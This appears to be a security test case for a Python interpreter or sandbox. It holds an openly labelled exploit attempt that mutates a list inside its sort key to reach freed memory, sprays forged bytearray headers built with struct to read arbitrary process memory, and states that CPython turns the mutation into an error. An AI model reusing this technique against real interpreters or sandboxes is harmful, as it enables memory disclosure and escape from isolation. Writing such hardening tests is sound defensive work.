# Tries: a board program that changes a list while it is sorted: freed memory, filled with an object of its own making, would be read as the list and give a view of the whole process.
# Ends: the list is empty while Python runs in its sort, as in CPython; what was changed is an error.
### ATTACK
import struct

kept, seen, ours = [], [], []


def view(address, size):
    """An array as it lies in memory (type, kind, length, address), and where these words lie."""
    words = bytearray(struct.pack("<IIII", id(bytearray), 1, size, address))
    ours.append(words)
    return id(words) + 16


def reach(change):
    values = [bytes(1) for _ in range(64)]
    kept.append([bytearray(1) for _ in range(4)])
    false = struct.pack("<I", view(0x08048000, 64))

    def key(one):
        if 4 < len(values) <= 64:
            change(values)
            kept.append([bytearray(false * 64) for _ in range(60)])
        if type(one) is bytearray:
            seen.append(bytes(one[:64]))
        return len(seen)

    try:
        values.sort(key=key)
    except ValueError:
        pass


for change in (
    lambda values: values.extend(values * 4),
    lambda values: values.clear(),
    lambda values: [values.pop() for _ in range(60)],
):
    try:
        reach(change)
    except NameError:  # an empty place in the list
        pass
if seen:
    print("reads the process", seen[0])
kept = seen = None
### END
### BASE
